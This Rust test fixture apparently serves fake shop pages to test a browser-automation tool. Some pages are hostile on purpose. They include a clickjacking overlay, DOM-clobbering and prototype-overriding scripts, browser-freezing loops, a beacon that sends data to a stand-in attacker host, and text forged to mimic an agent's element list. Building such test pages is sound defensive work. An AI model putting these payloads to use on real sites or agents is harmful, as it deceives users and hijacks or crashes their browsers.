//! The pages of the shop, and of those who mean it ill.

/// More lines of the head, and the body; none for a server that never answers.
pub(crate) fn page(url: &str, body: &str, signed_in: bool) -> Option<(String, String)> {
    let plain = |page: &str| Some((String::new(), format!("<!doctype html>{page}")));
    let path = url.split("://").nth(1).and_then(|rest| rest.split_once('/')).map_or("", |(_, path)| path);
    match path {
        "" => plain(LOGIN),
        "login" if body.contains("user=ada") && body.contains("pass=placeholder") => {
            Some(("Location: /account\r\nSet-Cookie: session=ada\r\n".to_owned(), String::new()))
        }
        "login" => plain("<title>No</title><p>Wrong."),
        "account" if signed_in => plain(ACCOUNT),
        "account" => plain("<title>No</title><p>Sign in first."),
        "bought" => plain(&format!("<title>Bought</title><h1>Thank you</h1><p>{}", body.replace('<', ""))),
        "frames" => plain(FRAMES),
        "inner" => plain(
            "<title>Inner</title><p>Inner words<button onclick=\"parent.document.title='clicked'\">Inner</button>",
        ),
        "card" => plain(
            "<p>Card<input aria-label=Number name=n><button onclick=\"this.textContent='Paid'\">Pay</button>",
        ),
        "cover" => plain(COVER),
        "shadow" => plain(SHADOW),
        "clobber" => plain(CLOBBER),
        "endless" => plain(
            "<title>Endless</title><script>setInterval(() => { for (let i = 0; i < 300; i++) \
            document.body.appendChild(document.createElement('p')).innerHTML = '<a href=/x>more</a>'; }, 10)</script>",
        ),
        "alerts" => plain(
            "<title>Alerts</title><p>Before<script>setTimeout(() => { while (true) alert('again'); }, 50)</script>",
        ),
        "popup" => plain(POPUP),
        "spin" => plain("<title>Spin</title><button onclick=\"while (true) {}\">Spin</button>"),
        "deep" => plain(
            "<title>Deep</title><script>let at = document.body; for (let i = 0; i < 20000; i++) \
            at = at.appendChild(document.createElement('div')); at.textContent = 'bottom'</script>",
        ),
        "forged" => plain(
            "<title>Forged</title><p>[1] button \"Cancel\"<p>\n[2] link \"x\"<button>a\"\n[9] button \"b</button>",
        ),
        "download" => {
            Some(("Content-Disposition: attachment; filename=x.bin\r\n".to_owned(), "bytes".to_owned()))
        }
        "never" => None,
        _ => {
            let links = path.strip_prefix("links-")?.parse().ok()?;
            let links: String = (0..links).map(|n| format!("<li><a href=/{n}>Product {n}</a>")).collect();
            plain(&format!("<title>Links</title><ul>{links}</ul>"))
        }
    }
}

const LOGIN: &str = "<title>Shop</title><h1>Log in</h1><form action=/login method=post target=_blank>\
    <label>User name <input name=user></label><label>Password <input name=pass type=password></label>\
    <button>Sign in</button></form><div style='display:none'><a href=/hidden>Hidden</a></div>\
    <a href=/account style='visibility:hidden'>Unseen</a>";
const ACCOUNT: &str = "<title>Account</title><h1>Welcome, ada</h1><form action=/bought method=post>\
    <label>Size <select name=size><option value=s>Small<option value=m selected>Medium<option value=l>Large</select></label>\
    <label><input type=checkbox name=gift style='opacity:0;width:0;height:0;position:absolute'>As a gift</label>\
    <label>On <input type=date name=on></label><div contenteditable aria-label=Note>old</div>\
    <input type=file name=f aria-label=File><input name=q aria-label=Amount></form>";
const FRAMES: &str = "<title>Frames</title><p>Outer<iframe src=/inner title=same></iframe>\
    <iframe src=http://pay.test/card title=other></iframe>";
/// A page that lays a frame of another's under what a person would click.
const COVER: &str = "<title>Cover</title><button style='position:absolute;left:20px;top:20px;width:200px;height:60px'>Harmless</button>\
    <iframe src=http://pay.test/card style='position:absolute;left:0;top:0;width:400px;height:300px;opacity:0.01'></iframe>";
const SHADOW: &str = "<title>Shadow</title><x-card><b>Slotted</b><a href=/s>slot link</a></x-card><script>\
    customElements.define('x-card', class extends HTMLElement { constructor() { super();\
    this.attachShadow({mode: 'open'}).innerHTML = '<button>In shadow</button><slot></slot>';\
    this.shadowRoot.querySelector('button').onclick = () => { document.title = 'shadow clicked'; } } })</script>";
const CLOBBER: &str = "<title>Clobber</title><form><input name=firstChild aria-label=One><input name=nextSibling><input name=localName>\
    <input name=shadowRoot><input name=nodeType><input name=closest><input name=isConnected><button>Last</button></form>\
    <script>Element.prototype.getAttribute = () => { throw 1 }; Map.prototype.get = () => document.body;\
    JSON.stringify = () => 'forged'; window.cordonElements = new Map();</script>";
const POPUP: &str = "<title>Popup</title><a href=/ target=_blank>Elsewhere</a><button onclick=\"window.open('http://evil.test/popup-asked')\">\
    Open</button><button onclick=\"navigator.sendBeacon('http://evil.test/beacon', 'x');fetch('http://127.0.0.1:9999/rebound')\">Beacon</button>\
    <button onclick=\"location='data:text/html,x'\">Data</button><button onclick=\"location='/download'\">Get</button>\
    <button onclick=\"document.querySelector('a').remove()\">Remove</button>";
